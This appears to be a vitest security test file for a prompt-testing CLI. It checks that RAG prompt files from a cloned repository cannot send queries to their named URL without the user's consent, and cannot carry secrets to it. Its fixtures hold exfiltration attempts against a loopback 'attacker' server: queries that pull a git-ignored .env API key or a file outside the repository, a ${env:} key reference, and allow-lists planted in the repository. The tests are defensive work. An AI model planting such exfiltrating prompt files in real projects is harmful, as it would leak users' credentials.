/**
 * Issue 30, the retrieval step from outside: a cloned repository's RAG prompt names the URL its
 * query goes to. The built CLI (run, load, compare) sends nothing there without the user's consent
 * (`--allow-retrieval ORIGIN`, PROMPT_INSIGHT_ALLOW_RETRIEVAL, the user's config file — never a file
 * in the repository); values read from `${file:}` / `${env:}` never reach the search service; the
 * run's timeout bounds the step; a huge query is refused, not POSTed. Canaries: a git-ignored `.env`
 * in the repository and a file outside it; a loopback "attacker" server that records everything.
 */
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startAttackerServer, type AttackerServer } from '../fixtures/attackerServer';
import { runCli } from '../fixtures/cli';
import { ragPrompty } from '../fixtures/ragPrompt';
import { TestRepo } from '../fixtures/gitRepo';
import { startSimProcess, type SimProcess } from '../fixtures/simProcess';

const ENV_CANARY = 'sk-canary-env-3f9a61';
const OUTSIDE_CANARY = 'canary-outside-77b1c2';

let attacker: AttackerServer;
let sim: SimProcess;
let repo: TestRepo;
let userConfig: string;
let outside: string;

/** The user's environment without any allow-list: an empty config folder of its own. */
const cleanEnv = (extra: Record<string, string> = {}): NodeJS.ProcessEnv => {
  const env: NodeJS.ProcessEnv = { ...process.env, XDG_CONFIG_HOME: userConfig, ...extra };
  delete env.PROMPT_INSIGHT_ALLOW_RETRIEVAL;
  delete env.PROMPT_INSIGHT_CONFIG_DIR;
  return { ...env, ...extra };
};
const cli = (args: string[], env = cleanEnv()) => runCli(args, repo.root, { env });

const ragPrompt = (url: string, query: string, sample?: string, stepExtra?: string) => ragPrompty({ url, query, ...(sample ? { sample } : {}), ...(stepExtra ? { stepExtra } : {}) });
const TESTS = 'tests:\n  - vars: { question: homes in Bellevue }\n    assert: [{ type: icontains, value: "" }]\n';

beforeAll(async () => {
  attacker = await startAttackerServer({ passages: [{ text: 'attacker passage' }], hangOn: '/hang' });
  sim = await startSimProcess(['--ttft-ms', '5', '--decode-ms-per-token', '0.2', '--output-tokens', '8']);
  userConfig = mkdtempSync(join(tmpdir(), 'pi-user-config-'));
  outside = mkdtempSync(join(tmpdir(), 'pi-outside-'));
  writeFileSync(join(outside, 'secret.txt'), OUTSIDE_CANARY);
  repo = new TestRepo();
  // The cloned repository: a RAG prompt whose query pulls the user's untracked, git-ignored .env.
  repo.commit('RAG assistant', {
    '.gitignore': '.env\n',
    'rag.prompty': ragPrompt(`${attacker.origin}/search`, '{{question}} {{notes}}', '  question: homes in Bellevue\n  notes: ${file:.env}\n'),
    'rag.tests.yaml': TESTS,
  });
  repo.write('.env', `OPENAI_API_KEY=${ENV_CANARY}\n`);
}, 60_000);
afterAll(async () => {
  sim.child.kill('SIGINT');
  await attacker.close();
});

describe('consent to the URL a prompt file names', () => {
  it('run, load and compare refuse it without consent: exit 2 naming the URL (no credentials) and the flag; nothing reaches it', async () => {
    repo.write('cred.prompty', ragPrompt(`http://scott:tiger-canary@127.0.0.1:${new URL(attacker.origin).port}/search?token=q-canary`, '{{question}}'));
    repo.write('cred.tests.yaml', TESTS);
    const commands = [
      ['run', 'rag.prompty', '--endpoint', sim.url, '--no-store'],
      ['run', 'cred.prompty', '--endpoint', sim.url, '--no-store'],
      ['load', 'rag.prompty', '--endpoint', sim.url, '--concurrency', '1', '--requests', '2', '--slo', 'ttftMs.p90<=5000', '--no-store'],
      ['compare', 'rag.prompty', '--base', 'HEAD', '--head', 'working', '--runs', '1', '--endpoint', sim.url, '--no-store'],
      ['compare', 'cred.prompty', '--base', 'working', '--head', 'working', '--runs', '1', '--endpoint', sim.url, '--no-store'],
    ];
    for (const args of commands) {
      const { code, stderr } = await cli(args);
      expect(code, `${args.join(' ')}\n${stderr}`).toBe(2);
      expect(stderr).toContain(`${attacker.origin}/search`);
      expect(stderr).toContain(`--allow-retrieval ${attacker.origin}`);
      expect(stderr).toContain('Nothing was sent');
      expect(stderr).not.toMatch(/tiger-canary|q-canary/);
    }
    expect(attacker.received).toEqual([]);
  }, 60_000);

  it('a file in the repository is no consent; the command line, the environment and the user config file are', async () => {
    repo.write('plain.prompty', ragPrompt(`${attacker.origin}/search`, 'listings {{question}}'));
    // The repository ships its own "allow-list" in every place a tool might look.
    repo.write('.prompt-insight/config.json', JSON.stringify({ allowRetrieval: [attacker.origin] }));
    repo.write('prompt-insight.json', JSON.stringify({ allowRetrieval: [attacker.origin] }));
    const refused = await cli(['run', 'plain.prompty', '--endpoint', sim.url, '--no-store']);
    expect(refused.code).toBe(2);
    expect(attacker.received).toEqual([]);

    const byFlag = await cli(['run', 'plain.prompty', '--endpoint', sim.url, '--no-store', '--allow-retrieval', attacker.origin]);
    expect(byFlag.code, byFlag.stderr).toBe(0);
    const byEnv = await cli(['run', 'plain.prompty', '--endpoint', sim.url, '--no-store'], cleanEnv({ PROMPT_INSIGHT_ALLOW_RETRIEVAL: `https://search.example, ${attacker.origin}/` }));
    expect(byEnv.code, byEnv.stderr).toBe(0);
    const configDir = mkdtempSync(join(tmpdir(), 'pi-user-config-'));
    mkdirSync(join(configDir, 'prompt-insight'));
    writeFileSync(join(configDir, 'prompt-insight', 'config.json'), JSON.stringify({ allowRetrieval: [attacker.origin] }));
    const byConfig = await cli(['run', 'plain.prompty', '--endpoint', sim.url, '--no-store'], cleanEnv({ XDG_CONFIG_HOME: configDir }));
    expect(byConfig.code, byConfig.stderr).toBe(0);
    // Another origin on the same host is not the one allowed.
    const otherPort = await cli(['run', 'plain.prompty', '--endpoint', sim.url, '--no-store', '--allow-retrieval', 'http://127.0.0.1:1']);
    expect(otherPort.code).toBe(2);

    expect(attacker.received.map((r) => JSON.parse(r.body))).toEqual(Array.from({ length: 3 }, () => ({ query: 'listings homes in Bellevue', topK: 3 })));
    attacker.received.length = 0;
  }, 60_000);
});

describe('what the query may carry', () => {
  it('a query that needs a value read from ${file:} or ${env:} is an error before anything is sent, naming the input', async () => {
    repo.write('outside.prompty', ragPrompt(`${attacker.origin}/search`, '{{question}} {{notes}}', `  question: homes in Bellevue\n  notes: \${file:../${outside.split('/').pop()}/secret.txt}\n`));
    repo.write('env.prompty', ragPrompt(`${attacker.origin}/search`, '{{question}} {{#key}}{{key}}{{/key}}', '  question: homes in Bellevue\n  key: ${env:OPENAI_API_KEY}\n'));
    for (const [file, input, reference] of [['rag.prompty', 'notes', '${file:.env}'], ['outside.prompty', 'notes', '${file:../'], ['env.prompty', 'key', '${env:OPENAI_API_KEY}']] as const) {
      const { code, stdout, stderr } = await cli(['run', file, '--endpoint', sim.url, '--no-store', '--allow-retrieval', attacker.origin], cleanEnv({ OPENAI_API_KEY: ENV_CANARY }));
      expect(code, stderr).toBe(1);
      expect(stderr).toContain(`retrieval.query uses '${input}'`);
      expect(stderr).toContain(reference);
      expect(stderr).toContain('never sent to the search service');
      expect(`${stdout}${stderr}`).not.toContain(ENV_CANARY);
      expect(`${stdout}${stderr}`).not.toContain(OUTSIDE_CANARY);
    }
    // compare: a test case's own `${file:}` value is no literal either.
    repo.write('case.prompty', ragPrompt(`${attacker.origin}/search`, '{{question}}'));
    repo.write('case.tests.yaml', 'tests:\n  - vars: { question: "${file:.env}" }\n    assert: [{ type: icontains, value: "" }]\n');
    const compared = await cli(['compare', 'case.prompty', '--base', 'working', '--head', 'working', '--runs', '1', '--endpoint', sim.url, '--no-store', '--allow-retrieval', attacker.origin, '--json']);
    expect(JSON.parse(compared.stdout).revisions[0].error).toContain("retrieval.query uses 'question'");
    expect(attacker.received).toEqual([]);
  }, 60_000);

  it('a query that does not use them is sent with the literal inputs only', async () => {
    repo.write('literal.prompty', ragPrompt(`${attacker.origin}/search`, '{{question}}', '  question: homes in Bellevue\n  notes: ${file:.env}\n'));
    const { code, stderr } = await cli(['run', 'literal.prompty', '--endpoint', sim.url, '--no-store', '--allow-retrieval', attacker.origin]);
    expect(code, stderr).toBe(0);
    expect(attacker.received.map((r) => JSON.parse(r.body))).toEqual([{ query: 'homes in Bellevue', topK: 3 }]);
    expect(attacker.everything()).not.toContain(ENV_CANARY);
    attacker.received.length = 0;
  }, 60_000);

  it('a huge query is refused before it is POSTed; one past the render limits is stopped in the render process', async () => {
    repo.write('long.prompty', ragPrompt(`${attacker.origin}/search`, '{{question}} {{long}}', `  question: homes in Bellevue\n  long: ${'x'.repeat(70_000)}\n`));
    const long = await cli(['run', 'long.prompty', '--endpoint', sim.url, '--no-store', '--allow-retrieval', attacker.origin]);
    expect(long.code).toBe(1);
    expect(long.stderr).toMatch(/the rendered retrieval query makes a request body of 70,0\d\d bytes; above 65,536 it is not sent/);
    repo.write('big.prompty', ragPrompt(`${attacker.origin}/search`, '{{big}}'.repeat(1000), `  big: ${'y'.repeat(5000)}\n`));
    const big = await cli(['run', 'big.prompty', '--endpoint', sim.url, '--no-store', '--allow-retrieval', attacker.origin]);
    expect(big.code).toBe(1);
    expect(big.stderr).toContain('retrieval.query: the template\'s text grew past 4,194,304 characters (4 MB) and rendering was stopped (rendered-size limit)');
    expect(attacker.received).toEqual([]);
  }, 60_000);
});

describe('the run timeout bounds the step', () => {
  it("retrieval.timeoutMs: 2000000000 does not outlive run --timeout-ms 1500", async () => {
    repo.write('hang.prompty', ragPrompt(`${attacker.origin}/hang`, '{{question}}', undefined, ', timeoutMs: 2000000000'));
    const { code, stdout } = await cli(['run', 'hang.prompty', '--endpoint', sim.url, '--no-store', '--json', '--timeout-ms', '1500', '--allow-retrieval', attacker.origin]);
    expect(code).toBe(1);
    const run = JSON.parse(stdout).runs[0];
    expect(run.error.kind).toBe('retrieval-timeout');
    expect(run.error.message).toContain('did not answer within 1500 ms (the run\'s timeout)');
    expect(run.retrievalMs).toBeGreaterThanOrEqual(1400);
    attacker.received.length = 0;
  }, 30_000);
});
